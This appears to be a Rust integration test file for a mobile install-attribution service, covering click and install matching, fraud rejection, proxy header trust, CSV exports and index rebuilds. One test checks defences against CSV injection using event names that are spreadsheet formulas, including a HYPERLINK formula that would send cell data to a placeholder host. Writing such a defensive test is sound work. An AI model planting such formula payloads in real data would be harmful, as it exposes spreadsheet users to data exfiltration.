//! Attribution end to end: touchpoints through tracking links and S2S, installs from the
//! SDK, decisions readable by API and SDK, credit in reports, fraud, restart.

use crate::apps::android_app;
use crate::collect::{Fixture, fixture, link, now_rfc3339, send, send_s2s, settle};
use reqwest::Method;
use serde_json::{Value, json};
use unmogrowp_testkit::{TestApp, TestBackend};

fn install(id: &str, gaid: &str, seconds_ago: i64) -> Value {
    json!({ "id": id, "type": "install", "timestamp": now_rfc3339(-seconds_ago), "device": { "gaid": gaid, "country": "DE", "ip": "203.0.113.50" } })
}

async fn click_path(app: &TestApp, link: &Value, gaid: &str) -> String {
    let path =
        format!("{}?gaid={gaid}", link["click_url"].as_str().unwrap().trim_start_matches(&app.url));
    let reply = app.call(Method::GET, &path, None, None).await;
    assert_eq!(reply.status, 302);
    reply.header("location").unwrap().rsplit("%3D").next().unwrap().to_owned()
}

async fn get(app: &TestApp, fixture: &Fixture, path: &str) -> unmogrowp_testkit::app::Reply {
    app.call(Method::GET, path, Some(&fixture.owner.access_token), None).await
}

async fn installs_are_attributed_and_events_inherit_the_source(backend: TestBackend) {
    let app = TestApp::spawn(backend).await;
    let fixture = fixture(&app, "attr.example", android_app("Attr")).await;
    let meta = link(&app, &fixture, "meta", "autumn").await;
    let click_id = click_path(&app, &meta, "GAID-A").await;
    tokio::time::sleep(std::time::Duration::from_millis(20)).await;

    // The click happened just now; installs must come at least 10 s later (CTIT), so they
    // are sent with timestamps in the (allowed) near future.
    let install_a = json!({ "id": "inst-a", "type": "install", "timestamp": now_rfc3339(60), "device": { "gaid": "gaid-a", "country": "DE" } });
    let install_b = json!({ "id": "inst-b", "type": "install", "timestamp": now_rfc3339(60), "click_id": click_id, "device": { "gaid": "other", "country": "DE" } });
    let organic = install("inst-c", "never-clicked", 0);
    let mut purchase = json!({ "id": "buy-a", "type": "event", "name": "purchase", "timestamp": now_rfc3339(120), "device": { "gaid": "gaid-a", "country": "DE" },
                               "revenue": { "amount": 4.0, "currency": "USD" } });
    purchase["device"]["gaid"] = json!("GAID-A");
    let reply = send(&app, &fixture.app_token, &[install_a, install_b, organic, purchase]).await;
    assert_eq!(reply.body["accepted"], 4, "{}", reply.text);
    settle(&app).await;

    let a = get(&app, &fixture, &format!("/api/v1/apps/{}/installs/inst-a", fixture.app_id)).await;
    assert_eq!(a.status, 200, "{}", a.text);
    assert_eq!(a.body["status"], "attributed");
    assert_eq!(a.body["match_type"], "device_id");
    assert_eq!(a.body["touch"]["type"], "click");
    assert_eq!(a.body["touch"]["network"], "meta");
    assert_eq!(a.body["touch"]["campaign"], "autumn");
    assert_eq!(a.body["touch"]["id"], click_id.as_str());
    assert_eq!(a.body["touch"]["link_id"], meta["id"]);
    assert_eq!(a.body["reattribution"], false);
    let b = get(&app, &fixture, &format!("/api/v1/apps/{}/installs/inst-b", fixture.app_id)).await;
    assert_eq!(b.body["match_type"], "click_id");
    let c = get(&app, &fixture, &format!("/api/v1/apps/{}/installs/inst-c", fixture.app_id)).await;
    assert_eq!(c.body["status"], "organic");
    assert!(c.body["touch"].is_null());
    assert_eq!(
        get(&app, &fixture, &format!("/api/v1/apps/{}/installs/nope", fixture.app_id)).await.status,
        404
    );

    let sdk = app
        .call_with(
            Method::GET,
            "/v1/attribution?device_id=gaid-a",
            None,
            None,
            &[("x-app-token", &fixture.app_token)],
        )
        .await;
    assert_eq!(sdk.status, 200, "{}", sdk.text);
    assert_eq!(sdk.body["status"], "attributed");
    assert_eq!(sdk.body["touch"]["network"], "meta");
    let unknown = app
        .call_with(
            Method::GET,
            "/v1/attribution?device_id=stranger",
            None,
            None,
            &[("x-app-token", &fixture.app_token)],
        )
        .await;
    assert_eq!(unknown.status, 404);

    let summary = get(
        &app,
        &fixture,
        &format!("/api/v1/apps/{}/reports/summary?group_by=network", fixture.app_id),
    )
    .await;
    let rows = summary.body["rows"].as_array().unwrap();
    let meta_row = rows.iter().find(|r| r["network"] == "meta").unwrap();
    assert_eq!(meta_row["installs"], 2, "{rows:?}");
    assert_eq!(meta_row["clicks"], 1);
    assert_eq!(meta_row["events"], 1, "the purchase is credited to the install's source");
    assert_eq!(meta_row["revenue"], 4.0);
    let organic_row = rows.iter().find(|r| r["network"] == "organic").unwrap();
    assert_eq!(organic_row["installs"], 1);
    assert_eq!(organic_row["organic_installs"], 1);

    let linear = get(
        &app,
        &fixture,
        &format!("/api/v1/apps/{}/reports/summary?group_by=network&model=linear", fixture.app_id),
    )
    .await;
    assert_eq!(linear.status, 200, "{}", linear.text);
    assert_eq!(linear.body["totals"]["installs"], 3.0);
    let bad = get(
        &app,
        &fixture,
        &format!("/api/v1/apps/{}/reports/summary?model=first_touch", fixture.app_id),
    )
    .await;
    assert_eq!(bad.body["errors"][0]["field"], "model");
    app.stop().await;
}

async fn fraud_rules_reject_and_the_fraud_report_counts(backend: TestBackend) {
    let app = TestApp::spawn(backend).await;
    let fixture = fixture(&app, "fraud.example", android_app("Fraud")).await;
    let reply = app
        .call(
            Method::PUT,
            "/api/v1/org/blocked-ips",
            Some(&fixture.owner.access_token),
            Some(&json!({ "ranges": ["198.51.100.0/24", "not-an-ip"] })),
        )
        .await;
    assert_eq!(reply.status, 400);
    assert_eq!(reply.body["errors"][0]["field"], "ranges[1]");
    let reply = app
        .call(
            Method::PUT,
            "/api/v1/org/blocked-ips",
            Some(&fixture.owner.access_token),
            Some(&json!({ "ranges": ["198.51.100.0/24"] })),
        )
        .await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    let shady = link(&app, &fixture, "shadynet", "bait").await;
    click_path(&app, &shady, "victim").await;
    let injected = install("injected", "victim", 0);
    // Reported by a server (an SDK request's IP is its connection's).
    let blocked = json!({ "id": "blocked", "type": "install", "timestamp": now_rfc3339(0), "device": { "gaid": "bot", "ip": "198.51.100.7" } });
    assert_eq!(send(&app, &fixture.app_token, &[injected]).await.body["accepted"], 1);
    assert_eq!(send_s2s(&app, &fixture, &[blocked]).await.body["accepted"], 1);
    settle(&app).await;
    let decision =
        get(&app, &fixture, &format!("/api/v1/apps/{}/installs/injected", fixture.app_id)).await;
    assert_eq!(decision.body["status"], "rejected");
    assert_eq!(decision.body["rejection_reason"], "click_injection");
    let decision =
        get(&app, &fixture, &format!("/api/v1/apps/{}/installs/blocked", fixture.app_id)).await;
    assert_eq!(decision.body["rejection_reason"], "blocked_ip");

    let report =
        get(&app, &fixture, &format!("/api/v1/apps/{}/reports/fraud", fixture.app_id)).await;
    assert_eq!(report.status, 200, "{}", report.text);
    assert_eq!(report.body["rejected_installs"], 2);
    let reasons: Vec<(String, String)> = report.body["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (r["reason"].as_str().unwrap().to_owned(), r["network"].as_str().unwrap().to_owned())
        })
        .collect();
    assert!(
        reasons.contains(&("click_injection".to_owned(), "shadynet".to_owned())),
        "{reasons:?}"
    );
    assert!(reasons.contains(&("blocked_ip".to_owned(), "organic".to_owned())), "{reasons:?}");
    let summary =
        get(&app, &fixture, &format!("/api/v1/apps/{}/reports/summary", fixture.app_id)).await;
    assert_eq!(summary.body["totals"]["installs"], 0, "rejected installs are not installs");
    assert_eq!(summary.body["totals"]["rejected_installs"], 2);
    app.stop().await;
}

async fn decisions_survive_a_restart_and_the_index_is_rebuilt(backend: TestBackend) {
    let app = TestApp::spawn(backend).await;
    let fixture = fixture(&app, "restart.example", android_app("Restart")).await;
    let unity = link(&app, &fixture, "unity", "keep").await;
    click_path(&app, &unity, "gaid-before").await;
    click_path(&app, &unity, "gaid-after").await;
    let reply = send(&app, &fixture.app_token, &[json!({ "id": "before", "type": "install", "timestamp": now_rfc3339(30), "device": { "gaid": "gaid-before" } })]).await;
    assert_eq!(reply.body["accepted"], 1);
    settle(&app).await;

    let app = Box::pin(app.restart()).await;
    let decision =
        get(&app, &fixture, &format!("/api/v1/apps/{}/installs/before", fixture.app_id)).await;
    assert_eq!(decision.body["status"], "attributed", "the decision was kept");
    // The click before the restart still wins an install after it.
    let reply = send(&app, &fixture.app_token, &[json!({ "id": "after", "type": "install", "timestamp": now_rfc3339(30), "device": { "gaid": "gaid-after" } })]).await;
    assert_eq!(reply.body["accepted"], 1);
    settle(&app).await;
    let decision =
        get(&app, &fixture, &format!("/api/v1/apps/{}/installs/after", fixture.app_id)).await;
    assert_eq!(decision.body["status"], "attributed", "{}", decision.text);
    assert_eq!(decision.body["touch"]["network"], "unity");
    app.stop().await;
}

on_both_backends!(
    installs_are_attributed_and_events_inherit_the_source,
    fraud_rules_reject_and_the_fraud_report_counts,
    decisions_survive_a_restart_and_the_index_is_rebuilt,
);

/// The click's IP comes from `X-Forwarded-For` only when the peer is a trusted proxy; a
/// probabilistic match (IP + user agent) shows which IP was recorded.
#[tokio::test]
async fn forwarded_for_is_believed_only_from_trusted_proxies() {
    for (trusted, expected) in [(true, "attributed"), (false, "organic")] {
        let app = TestApp::spawn_with(TestBackend::Sqlite, |config| {
            if trusted {
                config.http.trusted_proxies = vec!["127.0.0.1".to_owned()];
            }
        })
        .await;
        let fixture = fixture(&app, "proxy.example", android_app("Proxy")).await;
        let tiktok = link(&app, &fixture, "tiktok", "web").await;
        let path = tiktok["click_url"].as_str().unwrap().trim_start_matches(&app.url).to_owned();
        let reply = app
            .call_with(Method::GET, &path, None, None, &[
                ("x-forwarded-for", "203.0.113.77"),
                ("user-agent", "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 Chrome/120.0 Mobile Safari/537.36"),
            ])
            .await;
        assert_eq!(reply.status, 302);
        let install = json!({ "id": "web-install", "type": "install", "timestamp": now_rfc3339(60),
            "device": { "gaid": "never-clicked-with-id", "ip": "203.0.113.77",
                        "user_agent": "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A.230803.041)" } });
        assert_eq!(send_s2s(&app, &fixture, &[install]).await.body["accepted"], 1);
        settle(&app).await;
        let decision =
            get(&app, &fixture, &format!("/api/v1/apps/{}/installs/web-install", fixture.app_id))
                .await;
        assert_eq!(
            decision.body["status"], expected,
            "trusted proxy: {trusted}: {}",
            decision.text
        );
        if trusted {
            assert_eq!(decision.body["match_type"], "probabilistic");
        }
        app.stop().await;
    }
}

/// Every spelling of an IP address is one address: a click from `2001:db8:11::b` and an
/// install three hours later reporting `2001:db8:11:0:0:0:0:b` (and the IPv4-mapped spelling
/// of an IPv4 click) match probabilistically; the stored IP is the canonical text.
#[tokio::test]
async fn ip_spellings_match_as_one_address() {
    let app = TestApp::spawn_with(TestBackend::Sqlite, |config| {
        config.http.trusted_proxies = vec!["127.0.0.1".to_owned()];
    })
    .await;
    let fixture = fixture(&app, "ipv6.example", android_app("Spellings")).await;
    let network = link(&app, &fixture, "applovin", "v6").await;
    let path = network["click_url"].as_str().unwrap().trim_start_matches(&app.url).to_owned();
    for (i, (clicked_from, install_reports)) in
        [("2001:db8:11::b", "2001:db8:11:0:0:0:0:b"), ("198.51.100.23", "::ffff:198.51.100.23")]
            .iter()
            .enumerate()
    {
        let reply = app
            .call_with(Method::GET, &path, None, None, &[
                ("x-forwarded-for", clicked_from),
                ("user-agent", "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 Chrome/120.0 Mobile Safari/537.36"),
            ])
            .await;
        assert_eq!(reply.status, 302);
        let install = json!({ "id": format!("spelling-{i}"), "type": "install", "timestamp": now_rfc3339(60),
            "device": { "gaid": format!("new-device-{i}"), "ip": install_reports,
                        "user_agent": "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A.230803.041)" } });
        assert_eq!(send_s2s(&app, &fixture, &[install]).await.body["accepted"], 1);
    }
    settle(&app).await;
    for i in 0..2 {
        let decision =
            get(&app, &fixture, &format!("/api/v1/apps/{}/installs/spelling-{i}", fixture.app_id))
                .await;
        assert_eq!(decision.body["status"], "attributed", "{}", decision.text);
        assert_eq!(decision.body["match_type"], "probabilistic", "{}", decision.text);
    }
    let installs =
        get(&app, &fixture, &format!("/api/v1/apps/{}/export/installs.csv", fixture.app_id)).await;
    assert!(installs.text.contains(",2001:db8:11::b,"), "{}", installs.text);
    assert!(installs.text.contains(",198.51.100.23,"), "{}", installs.text);
    assert!(!installs.text.contains("::ffff:"), "{}", installs.text);
    app.stop().await;
}

async fn exports_stream_csv_of_each_kind(backend: TestBackend) {
    let app = TestApp::spawn(backend).await;
    let fixture = fixture(&app, "export.example", android_app("Export")).await;
    let google = link(&app, &fixture, "google", "csv, \"quoted\"").await;
    click_path(&app, &google, "export-device").await;
    let events = vec![
        json!({ "id": "ex-install", "type": "install", "timestamp": now_rfc3339(30), "device": { "gaid": "export-device", "country": "FR" } }),
        json!({ "id": "ex-session", "type": "session", "timestamp": now_rfc3339(40), "device": { "gaid": "export-device", "country": "FR" } }),
        json!({ "id": "ex-buy", "type": "event", "name": "purchase", "timestamp": now_rfc3339(50), "device": { "gaid": "export-device", "country": "FR" },
                "revenue": { "amount": 2.5, "currency": "USD" } }),
    ];
    assert_eq!(send(&app, &fixture.app_token, &events).await.body["accepted"], 3);
    settle(&app).await;
    let export = |kind: &str| format!("/api/v1/apps/{}/export/{kind}", fixture.app_id);
    let installs = get(&app, &fixture, &export("installs.csv")).await;
    assert_eq!(installs.status, 200);
    assert_eq!(installs.header("content-type"), Some("text/csv; charset=utf-8"));
    let lines: Vec<&str> = installs.text.lines().collect();
    assert!(lines[0].starts_with("id,type,name,timestamp"), "{}", installs.text);
    assert_eq!(lines.len(), 2, "{}", installs.text);
    assert!(lines[1].starts_with("ex-install,install,"), "{}", lines[1]);
    assert!(lines[1].contains(",google,\"csv, \"\"quoted\"\"\","), "{}", lines[1]);
    assert!(lines[1].contains(",attributed,"), "{}", lines[1]);
    let events_csv = get(&app, &fixture, &export("events.csv")).await;
    assert_eq!(events_csv.text.lines().count(), 3, "{}", events_csv.text);
    assert!(events_csv.text.contains("ex-buy,event,purchase,"));
    let clicks = get(&app, &fixture, &export("clicks.csv")).await;
    assert_eq!(clicks.text.lines().count(), 2);
    assert_eq!(get(&app, &fixture, &export("everything.csv")).await.status, 404);
    let viewer = app.add_member(&fixture.owner, "viewer@export.example", "viewer").await;
    let denied =
        app.call(Method::GET, &export("installs.csv"), Some(&viewer.access_token), None).await;
    assert_eq!(denied.status, 403);
    app.stop().await;
}

/// The app token ships inside every app, so anyone can send an event named like a formula:
/// exported, such a cell is text, never a formula (OWASP "CSV Injection").
async fn exported_formulas_are_neutralised(backend: TestBackend) {
    let app = TestApp::spawn(backend).await;
    let fixture = fixture(&app, "formula.example", android_app("Formula")).await;
    let names = [
        "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"x\")",
        "+1+2",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ];
    let events: Vec<_> = names
        .iter()
        .enumerate()
        .map(|(i, name)| {
            json!({ "id": format!("formula-{i}"), "type": "event", "name": name,
                    "timestamp": now_rfc3339(10 + i as i64), "device": { "gaid": "formula-device" } })
        })
        .collect();
    assert_eq!(send(&app, &fixture.app_token, &events).await.body["accepted"], names.len());
    settle(&app).await;
    let csv =
        get(&app, &fixture, &format!("/api/v1/apps/{}/export/events.csv", fixture.app_id)).await;
    assert_eq!(csv.status, 200);
    assert!(
        csv.text.contains(",\"'=HYPERLINK(\"\"http://example.invalid/?d=\"\"&A1,\"\"x\"\")\","),
        "{}",
        csv.text
    );
    // Names are trimmed on the way in, so the tab and carriage-return ones arrive as `=1`.
    for neutral in [",'+1+2,", ",'-2+3,", ",'@SUM(A1),"] {
        assert!(csv.text.contains(neutral), "{neutral:?} in {}", csv.text);
    }
    assert_eq!(csv.text.matches(",'=1,").count(), 2, "{}", csv.text);
    // No cell of any line starts with a formula character.
    for line in csv.text.split('\n').skip(1).filter(|l| !l.is_empty()) {
        assert!(!line.contains(",=") && !line.contains(",@") && !line.contains(",\"="), "{line}");
    }
    app.stop().await;
}

mod exports {
    on_both_backends!(exports_stream_csv_of_each_kind, exported_formulas_are_neutralised);
    use super::{exported_formulas_are_neutralised, exports_stream_csv_of_each_kind};
}

/// A browser always asks for gzip: the compressed export holds every row (it used to end early
/// when the encoder polled the finished body stream again).
#[tokio::test]
async fn a_gzip_export_holds_every_row() {
    use std::io::Read;
    let app = TestApp::spawn(TestBackend::Sqlite).await;
    let fixture = fixture(&app, "gzip-export.example", android_app("Gzip export")).await;
    for batch in 0..3 {
        let events: Vec<Value> = (0..1000)
            .map(|i| json!({ "id": format!("gz-{batch}-{i}"), "type": "session", "timestamp": now_rfc3339(-60),
                             "device": { "gaid": format!("gz-device-{i}"), "country": "DE" } }))
            .collect();
        assert_eq!(send(&app, &fixture.app_token, &events).await.body["accepted"], 1000);
    }
    settle(&app).await;
    let path = format!("/api/v1/apps/{}/export/events.csv", fixture.app_id);
    let plain = get(&app, &fixture, &path).await;
    assert_eq!(plain.status, 200);
    assert_eq!(plain.text.lines().count(), 3001);
    for _ in 0..3 {
        let response = app
            .client
            .get(app.at(&path))
            .bearer_auth(&fixture.owner.access_token)
            .header("accept-encoding", "gzip")
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200);
        assert_eq!(response.headers()["content-encoding"], "gzip");
        let compressed = response.bytes().await.expect("the whole compressed body");
        let mut text = String::new();
        flate2::read::GzDecoder::new(&compressed[..]).read_to_string(&mut text).unwrap();
        assert_eq!(text, plain.text, "the compressed export differs from the plain one");
    }
    app.stop().await;
}

async fn cohorts_count_retention_and_revenue_for_a_known_cohort(backend: TestBackend) {
    let app = TestApp::spawn(backend).await;
    let fixture = fixture(&app, "cohort.example", android_app("Cohort")).await;
    let day_seconds = 86_400;
    let base = jiff::Timestamp::now() - jiff::SignedDuration::from_secs(10 * day_seconds);
    let install_day = base.to_zoned(jiff::tz::TimeZone::UTC).date();
    let at = |days: i64| {
        (install_day.to_zoned(jiff::tz::TimeZone::UTC).unwrap().timestamp()
            + jiff::SignedDuration::from_secs(days * day_seconds + 3600))
        .to_string()
    };
    let events = vec![
        json!({ "id": "c-install-1", "type": "install", "timestamp": at(0), "device": { "gaid": "cohort-1" } }),
        json!({ "id": "c-install-2", "type": "install", "timestamp": at(0), "device": { "gaid": "cohort-2" } }),
        json!({ "id": "c-install-3", "type": "install", "timestamp": at(0), "device": { "gaid": "cohort-3" } }),
        json!({ "id": "c-install-4", "type": "install", "timestamp": at(0), "device": { "gaid": "cohort-4" } }),
        json!({ "id": "c-s1-d0", "type": "session", "timestamp": at(0), "device": { "gaid": "cohort-1" } }),
        json!({ "id": "c-s1-d1", "type": "session", "timestamp": at(1), "device": { "gaid": "cohort-1" } }),
        json!({ "id": "c-s2-d1", "type": "session", "timestamp": at(1), "device": { "gaid": "cohort-2" } }),
        json!({ "id": "c-s2-d1b", "type": "open", "timestamp": at(1), "device": { "gaid": "cohort-2" } }),
        json!({ "id": "c-s1-d7", "type": "session", "timestamp": at(7), "device": { "gaid": "cohort-1" } }),
        json!({ "id": "c-buy-1", "type": "event", "name": "purchase", "timestamp": at(1), "device": { "gaid": "cohort-1" }, "revenue": { "amount": 4.0, "currency": "USD" } }),
        json!({ "id": "c-buy-2", "type": "event", "name": "purchase", "timestamp": at(7), "device": { "gaid": "cohort-2" }, "revenue": { "amount": 6.0, "currency": "USD" } }),
    ];
    let reply = send(&app, &fixture.app_token, &events).await;
    assert_eq!(reply.body["accepted"], 11, "{}", reply.text);
    settle(&app).await;
    let day = install_day.to_string();
    let report = get(
        &app,
        &fixture,
        &format!(
            "/api/v1/apps/{}/reports/cohorts?from={day}&to={day}&days=0,1,7,30&group_by=network",
            fixture.app_id
        ),
    )
    .await;
    assert_eq!(report.status, 200, "{}", report.text);
    let cohorts = report.body["cohorts"].as_array().unwrap();
    assert_eq!(cohorts.len(), 1, "{}", report.text);
    let cohort = &cohorts[0];
    assert_eq!(cohort["install_day"], day.as_str());
    assert_eq!(cohort["group"], "organic");
    assert_eq!(cohort["installs"], 4);
    assert_eq!(cohort["retained"], json!({ "0": 1, "1": 2, "7": 2, "30": 0 }));
    assert_eq!(cohort["retention"], json!({ "0": 0.25, "1": 0.5, "7": 0.5, "30": 0.0 }));
    assert_eq!(cohort["revenue"], json!({ "0": 0.0, "1": 4.0, "7": 10.0, "30": 10.0 }));
    assert_eq!(cohort["revenue_per_install"], json!({ "0": 0.0, "1": 1.0, "7": 2.5, "30": 2.5 }));
    let bad =
        get(&app, &fixture, &format!("/api/v1/apps/{}/reports/cohorts?days=1,x", fixture.app_id))
            .await;
    assert_eq!(bad.body["errors"][0]["field"], "days");
    app.stop().await;
}

mod cohorts {
    on_both_backends!(cohorts_count_retention_and_revenue_for_a_known_cohort);
    use super::cohorts_count_retention_and_revenue_for_a_known_cohort;
}

/// Issue 12: a worker whose snapshot is gone rebuilds the index from the event store, which
/// holds every decision and touchpoint (the log holds only its retention): a re-install of a
/// device is still a re-install, the device's events keep its source, and a click from
/// before the restart still wins.
async fn without_a_snapshot_the_index_is_rebuilt_from_the_event_store(backend: TestBackend) {
    let app = TestApp::spawn(backend).await;
    let fixture = fixture(&app, "rebuild.example", android_app("Rebuild")).await;
    let unity = link(&app, &fixture, "unity", "history").await;
    click_path(&app, &unity, "gaid-old").await;
    click_path(&app, &unity, "gaid-pending").await;
    let first = json!({ "id": "first", "type": "install", "timestamp": now_rfc3339(30), "device": { "gaid": "gaid-old" } });
    assert_eq!(send(&app, &fixture.app_token, &[first]).await.body["accepted"], 1);
    settle(&app).await;

    let app = app
        .restart_after(|dir| {
            std::fs::remove_file(dir.join("attribution.snapshot")).expect("a snapshot was written");
        })
        .await;
    let events = [
        json!({ "id": "again", "type": "install", "timestamp": now_rfc3339(90), "device": { "gaid": "gaid-old" } }),
        json!({ "id": "pending", "type": "install", "timestamp": now_rfc3339(90), "device": { "gaid": "gaid-pending" } }),
        json!({ "id": "buy", "type": "event", "name": "purchase", "timestamp": now_rfc3339(120), "device": { "gaid": "gaid-old" },
                "revenue": { "amount": 2.0, "currency": "USD" } }),
    ];
    assert_eq!(send(&app, &fixture.app_token, &events).await.body["accepted"], 3);
    settle(&app).await;
    // (The new records are decided after the rebuild, so it has happened by now.)
    let metrics = app.get("/metrics").await.text().await.unwrap();
    assert!(metrics.contains("pipeline_index_rebuilds_total{from=\"event_store\"} 1"), "{metrics}");
    let again =
        get(&app, &fixture, &format!("/api/v1/apps/{}/installs/again", fixture.app_id)).await;
    assert_eq!(again.body["status"], "attributed", "{}", again.text);
    assert_eq!(again.body["touch"]["network"], "unity", "{}", again.text);
    let pending =
        get(&app, &fixture, &format!("/api/v1/apps/{}/installs/pending", fixture.app_id)).await;
    assert_eq!(pending.body["match_type"], "device_id", "{}", pending.text);
    let summary = get(
        &app,
        &fixture,
        &format!("/api/v1/apps/{}/reports/summary?group_by=network", fixture.app_id),
    )
    .await;
    assert_eq!(
        summary.body["totals"]["installs"], 2,
        "the re-install is not an install: {}",
        summary.text
    );
    let unity_row = summary.body["rows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["network"] == "unity")
        .cloned()
        .unwrap_or_default();
    assert_eq!(unity_row["events"], 1, "the purchase keeps the device's source: {}", summary.text);
    app.stop().await;
}

mod rebuild {
    on_both_backends!(without_a_snapshot_the_index_is_rebuilt_from_the_event_store);
    use super::without_a_snapshot_the_index_is_rebuilt_from_the_event_store;
}
